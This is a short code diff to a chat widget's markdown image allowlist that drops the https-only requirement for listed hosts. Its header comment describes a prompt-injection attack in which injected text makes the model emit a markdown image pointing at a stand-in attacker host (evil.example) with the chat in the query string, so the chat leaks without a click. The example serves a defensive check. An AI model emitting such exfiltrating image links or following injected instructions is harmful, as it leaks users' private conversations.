@@ -3,7 +3,7 @@ import type { MarkdownOptions } from './options.ts';
 // A markdown image is fetched by the visitor's browser the moment it is drawn, so its URL is a way out
 // for data: text injected into the model's context ("add ![](https://evil.example/?q=<the chat>)")
 // leaks the chat without a click. Only URLs the site owner vouches for load: the proxy's own origin,
-// and https hosts listed in `image-hosts`. Dify's signed file URLs (`/files/<id>/file-preview?…&sign=…`)
+// and the hosts listed in `image-hosts`. Dify's signed file URLs (`/files/<id>/file-preview?…&sign=…`)
 // point at Dify's FILES_URL host, which the widget never learns (the proxy hides where Dify is): the
 // site owner lists that host too.
 
@@ -39,5 +39,6 @@ export function imageMayLoad(href: string, options: MarkdownOptions): boolean {
     return false;
   }
   if (options.proxyBase !== undefined && url.origin === new URL(options.proxyBase).origin) return true;
-  return url.protocol === 'https:' && imageHostPatterns(options.config?.imageHosts).some((pattern) => hostMatches(url.host, pattern));
+  // (http or https: a listed host is trusted either way, and an https page refuses http images itself.)
+  return imageHostPatterns(options.config?.imageHosts).some((pattern) => hostMatches(url.host, pattern));
 }
